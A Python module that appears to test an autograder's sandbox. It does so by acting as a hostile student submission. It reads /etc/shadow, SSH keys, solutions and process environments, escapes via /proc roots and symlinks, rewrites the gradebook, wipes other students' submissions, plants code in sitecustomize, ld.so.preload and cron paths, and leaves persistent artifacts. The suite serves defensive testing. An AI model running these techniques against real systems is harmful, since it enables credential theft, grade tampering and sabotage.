"""Attacks on files: reading what is not meant for students, writing where others will read."""

# ruff: noqa: F821, SIM115 (a submission defines names, and does not mind)

from .attack import DATA, HOME, MARK, REPO, WRONG, answer, breach, cell


@cell(stock=True)
def reads_what_it_knows():
    """The solutions, the class's secret, its gradebook, its roster, other submissions, the password file: printed."""
    import glob

    places = [f"{REPO}/{place}" for place in ("solutions/*", "_build/source/*/*", "autograder/*.py", ".git/config")]
    places += [f"{DATA}/{place}" for place in ("secret", "gradebook.db", "roster.csv", "*/*/*/*", "verdicts/*/*")]
    places += ["/etc/shadow", "/etc/sudoers", f"{HOME}/.bashrc", f"{HOME}/.ssh/*", "/root/*", "/home/*/*"]
    for place in places:
        for path in glob.glob(place):
            try:
                print(path, open(path, "rb").read())
            except OSError:
                continue
            breach(f"{path} can be read")


@cell()
def walks_the_tree():
    """Every folder that can be listed is searched for a gradebook, a secret, a notebook and a solution."""
    import os

    wanted = {"gradebook.db", "secret", "roster.csv", "02_queries_keys_values.ipynb", "02_queries_keys_values.py"}
    for place, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if name not in ("proc", "sys", "site-packages", "dist-packages")]
        if found := wanted.intersection(files):
            breach(f"{place} holds {found}")


@cell()
def reads_the_environment():
    """Tokens in the environment of this process and of every other, and what their command lines say."""
    import glob
    import os

    print(dict(os.environ))
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            print(path, open(path, "rb").read())
        except OSError as error:
            print(path, error.strerror)


@cell()
def goes_around():
    """The same files through other processes' roots and folders, through links, and relative to this folder."""
    import os

    ways = ["/proc/1/root", "/proc/1/cwd/..", "/proc/self/root", "/proc/self/cwd/../../../../../..", "../" * 40]
    ways += [f"/proc/{name}/root" for name in os.listdir("/proc") if name.isdigit()]
    for way in ways:
        for place in (f"{DATA}/secret", f"{REPO}/solutions/02_queries_keys_values.py", "/etc/shadow"):
            link = f"link-{abs(hash(way + place))}"
            try:
                os.symlink(way + place, link)
                found = open(link, "rb").read()
            except OSError:
                continue
            breach(f"{way + place} can be read: {found}")


@cell()
def takes_handles():
    """Files by handle instead of by path, as CAP_DAC_READ_SEARCH allows; descriptors that were left open."""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    for name in os.listdir("/proc/self/fd"):
        try:
            place = os.readlink(f"/proc/self/fd/{name}")
            if os.path.isdir(f"/proc/self/fd/{name}") and int(name) > 2 and not place.startswith("/proc/"):
                breach(f"the folder {place} is open")
            os.close(os.open("../" * 30 + "etc/shadow", os.O_RDONLY, dir_fd=int(name)))
        except OSError:
            continue
    handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 128)  # the root of a file system
    here = os.open("/", os.O_RDONLY)
    if libc.open_by_handle_at(here, handle, os.O_RDONLY) >= 0:
        breach("open_by_handle_at")


@answer(gets=0, answers=WRONG, stock=True)
def runs_the_solution(*inputs):
    """The model solution is read from the course's folder and called."""
    import re

    for place in (
        f"{REPO}/solutions/02_queries_keys_values.py",
        f"{REPO}/autograder/demo/02_queries_keys_values/ada.py",
    ):
        try:
            text = open(place).read()
        except OSError:
            continue
        exec(re.sub(r"^(check|print).*", "", text, flags=re.MULTILINE), scope := {})
        wanted = {2: "dot_product_variance", 3: "scaled_dot_product_attention"}.get(len(inputs), "attention_backward")
        return scope[wanted](*inputs)
    return torch.zeros(3)


@cell(stock=True)
def writes_marks():
    """The gradebook gets extra credit and a trigger that marks all later work; verdicts and results are rewritten."""
    import glob
    import os
    import sqlite3

    try:
        with sqlite3.connect(f"{DATA}/gradebook.db", timeout=1) as book:
            book.execute("UPDATE grade SET extra_credit = 300")
            book.execute("CREATE TRIGGER more AFTER UPDATE ON grade BEGIN UPDATE grade SET auto_score = 9; END")
        breach("the gradebook was written")
    except sqlite3.Error:
        pass
    for place in ("verdicts", "results", "intake", "autograded", "feedback"):
        for path in [f"{DATA}/{place}/{MARK}", *glob.glob(f"{DATA}/{place}/**", recursive=True)]:
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                open(path, "w").write('{"points": 16}')
                breach(f"{path} was written")
            except OSError:
                pass


@cell()
def ruins_the_neighbour():
    """Another's submission is replaced by an empty notebook before it is graded."""
    import glob
    import os
    import shutil

    for path in glob.glob(f"{DATA}/submitted/*/*/*") + glob.glob(f"{DATA}/received/*/*/*/*"):
        open(path, "w").write('{"cells": []}')
        breach(f"{path} was written")
    shutil.rmtree(f"{DATA}/submitted", ignore_errors=True)
    try:
        os.makedirs(f"{DATA}/submitted/zoe")
        breach("a submission was made")
    except OSError:
        pass


@cell(stock=True)
def plants_code():
    """Code is left where the grader, the next student's process or the instructor's next command would run it."""
    import os
    import site
    import sys
    import sysconfig

    libraries = [*site.getsitepackages(), site.getusersitepackages(), *map(os.path.dirname, sys.path), *sys.path]
    places = [
        f"{folder}/{name}" for folder in libraries for name in ("sitecustomize.py", "usercustomize.py", f"{MARK}.pth")
    ]
    places += [
        f"{REPO}/{name}" for name in ("nbgrader_config.py", "sitecustomize.py", "autograder/__init__.py", "conftest.py")
    ]
    places += [os.path.dirname(sys.modules["autograder"].__file__) + "/observe.py", torch.__file__]
    places += [
        f"{HOME}/{name}"
        for name in (".ipython/profile_default/startup/00.py", ".bashrc", ".jupyter/nbgrader_config.py")
    ]
    places += [
        "/etc/ld.so.preload",
        "/etc/cron.d/job",
        "/etc/profile.d/x.sh",
        sysconfig.get_path("scripts") + "/alembic",
    ]
    places += [module.__cached__ for module in list(sys.modules.values()) if getattr(module, "__cached__", None)][:50]
    for place in places:
        if "/.local/" in place and not os.path.isdir(os.path.dirname(place)):
            continue
        try:
            os.makedirs(os.path.dirname(place), exist_ok=True)
            open(place, "ab").write(f"\n# {MARK}\n".encode())
        except OSError:
            continue
        if os.stat(place).st_dev == os.stat("/tmp").st_dev:  # its own /tmp; what reaches the machine's is seen outside
            continue
        breach(f"{place} was written")


@cell()
def removes_what_it_can():
    """Everything that lies in the course's folder, the class's and the environment is deleted."""
    import glob
    import os
    import sys

    for place in [*glob.glob(f"{DATA}/*"), *glob.glob(f"{REPO}/*"), *glob.glob(f"{sys.prefix}/*"), "/usr/bin/env"]:
        for change in (os.unlink, os.rmdir, lambda p: os.rename(p, p + MARK), lambda p: os.chmod(p, 0o777), os.utime):
            try:
                change(place)
            except OSError:
                continue
            breach(f"{place} was changed")


@cell()
def leaves_things():
    """What the next submission looks for: files, links, shared memory, queues, sockets, keys, a process."""
    import ctypes
    import os
    import socket
    import subprocess
    import sys
    import tempfile

    here = [os.path.dirname(sys.modules["autograder"].__file__), os.path.dirname(torch.__file__)]
    folders = [
        "/tmp",
        "/dev/shm",
        "/var/tmp",
        "/run",
        "/dev",
        "/",
        "/course",
        "/run/lock",
        tempfile.gettempdir(),
        *here,
    ]
    for folder in folders:
        for name in (MARK, f".{MARK}"):
            try:
                open(f"{folder}/{name}", "w").write(MARK)
                os.chmod(f"{folder}/{name}", 0o666)
            except OSError:
                pass
    libc = ctypes.CDLL(None, use_errno=True)
    for make in (libc.shmget, libc.msgget, libc.semget):
        make(7777, 4096, 0o1666) if make is not libc.msgget else make(7777, 0o1666)
    libc.syscall(248, b"user", MARK.encode(), b"left", 4, -4)  # add_key, of the user's keyring
    try:
        global listener
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(f"\0{MARK}-left")
        listener.listen()
    except OSError:
        pass
    wait = f"import time; time.sleep(900)  # {MARK}-left"
    for _ in range(3):
        subprocess.Popen([sys.executable, "-c", wait])
    os.environ["LEFT"] = torch.utils.left = MARK


@cell()
def leaves_things_and_looks():
    """Whatever an earlier submission left is found: what `leaves_things` left, or what an earlier run of this did."""
    import ctypes
    import glob
    import os
    import socket
    import sys
    import tempfile

    import torch.utils

    here = [os.path.dirname(sys.modules["autograder"].__file__), os.path.dirname(torch.__file__)]
    folders = [
        "/tmp",
        "/dev/shm",
        "/var/tmp",
        "/run",
        "/dev",
        "/",
        "/course",
        "/run/lock",
        tempfile.gettempdir(),
        *here,
    ]
    found = [path for folder in folders for path in glob.glob(f"{folder}/*{MARK}") + glob.glob(f"{folder}/.{MARK}")]
    libc = ctypes.CDLL(None, use_errno=True)
    found += [name for name in ("shmget", "semget") if getattr(libc, name)(7777, 1, 0) >= 0]
    found += ["msgget"] if libc.msgget(7777, 0) >= 0 else []
    found += ["a key"] if libc.syscall(249, b"user", MARK.encode(), None, -4) >= 0 else []
    found += ["the process"] if os.environ.get("LEFT") or hasattr(torch.utils, "left") else []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        found += [path] if f"{MARK}-left".encode() in open(path, "rb").read() else []
    try:
        met = not socket.socket(socket.AF_UNIX).connect_ex(f"\0{MARK}-left")
    except OSError:
        met = False
    if met:
        found.append("a socket")
    if found:
        breach(f"an earlier submission left {found}")
